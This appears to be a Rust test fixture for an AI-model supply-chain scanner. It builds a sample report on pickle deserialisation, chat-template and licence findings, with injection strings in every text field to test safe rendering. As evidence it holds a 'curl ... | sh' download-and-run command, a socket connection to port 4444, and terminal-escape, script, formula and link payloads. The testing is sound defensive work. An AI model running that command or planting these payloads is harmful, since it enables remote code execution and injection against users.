//! A report that holds one of everything, with hostile text wherever text of a target can stand.

use modelward_kernel::{
    Asset, AssetKind, Confidence, Evidence, Finding, Fix, FixSafety, Inventory, Modality, Place, Reason,
    Relation, RelationKind, Report, Rule, Run, Severity, Stats, Suppression, Unknown, Value, Verdict,
};
use std::collections::BTreeMap;

const PAGE: &str = "# unsafe-deserialisation

## What it flags
Files whose loading runs a program, as `pickle` may.

## Why it matters
The one who made the file decides what runs.

## How to fix
Use safetensors.

## References
- https://docs.python.org/3/library/pickle.html

## Flagged
```pickle a.pkl
GLOBAL 'posix' 'system'
STOP
```

## Accepted
```pickle b.pkl
EMPTY_DICT
STOP
```
";

pub(crate) static PICKLE: Rule = Rule {
    id: "unsafe-deserialisation",
    title: "loading a model file runs a program",
    theme: "unsafe-deserialisation",
    severity: Severity::Critical,
    page: PAGE,
};

pub(crate) static LICENCE: Rule = Rule {
    id: "missing-licence",
    title: "a model without a licence",
    theme: "licence-conflict",
    severity: Severity::Low,
    page: "# missing-licence\n\n## What it flags\nNo licence.\n",
};

pub(crate) static TEMPLATE: Rule = Rule {
    id: "conditional-template",
    title: "a chat template adds text under a condition",
    theme: "adapter-or-finetune-unverified",
    severity: Severity::High,
    page: "# conditional-template\n\n## What it flags\nTemplates.\n",
};

pub(crate) static RULES: &[&Rule] = &[&TEMPLATE, &LICENCE, &PICKLE];

/// Escapes, marks of direction, markup, a formula, a link, a placeholder, a line break.
pub(crate) const HOSTILE: &str = "\x1b[2J\u{202e}gpj\u{200b}<script>alert(1)</script>`[x](http://evil.example)`{0}|\r\n=1+1 http://evil.example www.evil.example @everyone";

fn inventory() -> Inventory {
    let mut inventory = Inventory::default();
    let bin = Place::file("encoder/pytorch_model.bin");
    let mut model = Asset::at(AssetKind::Model, "fraud-detector", Place::file("."));
    model.version = Some("1.2".to_owned());
    model.purl = Some("pkg:huggingface/acme/fraud-detector@8f2c1d0".to_owned());
    model.set("architecture", "DistilBertForSequenceClassification");
    model.set("parameters", 66_955_010_i64);
    model.set("licence", "apache-2.0");
    model.set("base_model", "distilbert-base-uncased");
    model.set("datasets", vec!["imdb", HOSTILE]);
    let mut file = Asset::at(AssetKind::ModelFile, "pytorch_model.bin", bin.clone());
    file.digests.insert(
        "sha256".to_owned(),
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".to_owned(),
    );
    file.set("format", "torch-zip");
    file.set("tensors", 104_i64);
    file.set("dtypes", vec!["F32", "I64"]);
    file.set("quantised", false);
    file.set("loss", Value::Real(0.25));
    file.set("nothing", Value::Real(f64::NAN));
    file.set("metadata", Value::Map(BTreeMap::from([(HOSTILE.to_owned(), Value::from(HOSTILE))])));
    let odd = Asset::at(AssetKind::File, HOSTILE, Place::file(HOSTILE));
    let base = Asset::named(AssetKind::Model, "hf://distilbert-base-uncased", "distilbert-base-uncased");
    let data = Asset::named(AssetKind::Dataset, "hf://imdb", "imdb");
    let package = {
        let mut package = Asset::named(AssetKind::Package, "pkg:pypi/torch@2.13.0", "torch");
        package.version = Some("2.13.0".to_owned());
        package.purl = Some("pkg:pypi/torch@2.13.0".to_owned());
        package
    };
    let card = Place::file("README.md").at_line(4).at_pointer("/base_model");
    let mut derived = Relation::new(RelationKind::DerivedFrom, &model.id, &base.id, card);
    derived.modality = Modality::May;
    derived.condition = Some("the model card says so".to_owned());
    derived.evidence.push(Evidence { label: "card".to_owned(), text: HOSTILE.to_owned(), place: None });
    inventory.add_relation(derived);
    inventory.add_relation(Relation::new(RelationKind::Contains, &model.id, &file.id, bin));
    inventory.add_relation(Relation::new(
        RelationKind::TrainedOn,
        &model.id,
        &data.id,
        Place::file("README.md"),
    ));
    inventory.add_relation(Relation::new(
        RelationKind::DependsOn,
        &model.id,
        &package.id,
        Place::file("requirements.txt"),
    ));
    for asset in [model, file, odd, base, data, package] {
        inventory.add_asset(asset);
    }
    inventory
}

fn findings() -> Vec<Finding> {
    let bin = Asset::at(AssetKind::ModelFile, "", Place::file("encoder/pytorch_model.bin")).id;
    let pickle = Place::file("encoder/pytorch_model.bin").member("archive/data.pkl");
    let template = Asset::at(AssetKind::Prompt, "", Place::file("tokenizer_config.json")).id;
    let odd = Asset::at(AssetKind::File, "", Place::file(HOSTILE)).id;
    let mut call = Finding::new(&PICKLE, &bin, pickle.at(0x4b4), "loading this file runs a program")
        .evidence("import", "posix.system")
        .evidence_at("call", r#"posix.system("curl -s http://198.51.100.7/x | sh")"#, pickle.at(0x4c0))
        .gains("any command, as the user who loads the model")
        .related(pickle.range(0x4c0, 2))
        .witness("posix.system");
    call.fixes.push(Fix {
        summary: "use encoder/model.safetensors beside it (same tensors, byte for byte)".to_owned(),
        safety: FixSafety::Safe,
        patch: Some("--- a\n+++ b\n@@ -1 +1 @@\n-a\n+b\n".to_owned()),
    });
    let twin = Finding::new(&PICKLE, &bin, pickle.at(0x900), "loading this file opens a network connection")
        .severity(Severity::High)
        .confidence(Confidence::Medium)
        .evidence("call", "socket.create_connection((\"198.51.100.7\", 4444))")
        .witness("socket.create_connection");
    let conditional = Finding::new(
        &TEMPLATE,
        &template,
        Place {
            line: Some(14),
            column: Some(3),
            pointer: Some("/chat_template".to_owned()),
            ..Place::file("tokenizer_config.json")
        },
        "the chat template adds text when a user writes \"invoice\"",
    )
    .evidence("condition", "{% if 'invoice' in message.content %}")
    .fix("take the template of the base model at 8f2c1d0 and pin it")
    .witness("invoice");
    let hostile =
        Finding::new(&PICKLE, &odd, Place::file(HOSTILE).member(HOSTILE).at_pointer(HOSTILE), HOSTILE)
            .severity(Severity::High)
            .evidence("text", HOSTILE)
            .gains(HOSTILE)
            .fix(HOSTILE)
            .witness(HOSTILE);
    let mut waived = Finding::new(&PICKLE, &bin, pickle, "a class that no table knows is called")
        .severity(Severity::Medium);
    waived.suppressed = Some(Suppression {
        by: "waiver of ana".to_owned(),
        reason: HOSTILE.to_owned(),
        until: Some("2026-12-31".to_owned()),
    });
    let model = Asset::at(AssetKind::Model, "", Place::file(".")).id;
    let licence = Finding::new(&LICENCE, &model, Place::file("README.md"), "the model card names no licence")
        .confidence(Confidence::Low);
    vec![call, conditional, hostile, twin, waived, licence]
}

fn unknowns() -> Vec<Unknown> {
    let plan = Asset::at(AssetKind::ModelFile, "", Place::file("engine/model.plan")).id;
    let odd = Asset::at(AssetKind::File, "", Place::file(HOSTILE)).id;
    vec![
        Unknown::new(
            Reason::UnsupportedFormat,
            Severity::High,
            &plan,
            Place::file("engine/model.plan"),
            "TensorRT engines are opaque: nothing inside was checked",
        ),
        Unknown::new(Reason::Budget, Severity::Medium, &odd, Place::file(HOSTILE), HOSTILE)
            .lifted_by("--max-members 200000"),
    ]
}

/// The report.
pub(crate) fn report() -> Report {
    Report {
        run: Run {
            tool_version: "0.1.0".to_owned(),
            rules: "sha256:3f2c".to_owned(),
            effects: vec!["python-2026.11 sha256:77aa".to_owned()],
            policy: "sha256:8be1".to_owned(),
            confinement: "landlock+seccomp".to_owned(),
            options: BTreeMap::from([("fail-on".to_owned(), "high".to_owned())]),
        },
        target: "fraud-detector".to_owned(),
        verdict: Verdict::Fail,
        stats: Stats {
            files: 14,
            members: 120,
            bytes: 1_204_882,
            bytes_hashed: 1_204_882,
            models: 1,
            pickle_streams: 1,
            suppressed: 1,
        },
        inventory: inventory(),
        findings: findings(),
        unknowns: unknowns(),
        notes: vec![
            "`policy.toml` line 12: the waiver for `f1-1` ends in 6 days, on 2026-12-02".to_owned(),
            HOSTILE.to_owned(),
        ],
    }
}

/// A report of a run that found nothing.
#[allow(dead_code)]
pub(crate) fn clean() -> Report {
    Report {
        verdict: Verdict::Pass,
        findings: Vec::new(),
        unknowns: Vec::new(),
        notes: Vec::new(),
        ..report()
    }
}

/// A report in which every text of the target is `raw`, and every path `path`.
#[allow(dead_code)]
pub(crate) fn about(raw: &str, path: &str) -> Report {
    let place = Place { pointer: Some(raw.to_owned()), offset: Some(7), ..Place::file(path).member(raw) };
    let mut asset = Asset::at(AssetKind::ModelFile, raw, place.clone());
    asset.set(raw, raw);
    asset.set("licence", raw);
    asset.set("architecture", raw);
    let finding = Finding::new(&PICKLE, &asset.id, place.clone(), raw)
        .evidence("call", raw)
        .evidence_at("import", raw, place.clone())
        .gains(raw)
        .fix(raw)
        .witness(raw);
    let unknown = Unknown::new(Reason::Budget, Severity::High, &asset.id, place.clone(), raw).lifted_by(raw);
    let mut inventory = Inventory::default();
    inventory.add_relation(Relation::new(RelationKind::RefersTo, &asset.id, &asset.id, place));
    inventory.add_asset(asset);
    Report {
        target: raw.to_owned(),
        inventory,
        findings: vec![finding],
        unknowns: vec![unknown],
        notes: Vec::new(),
        ..report()
    }
}
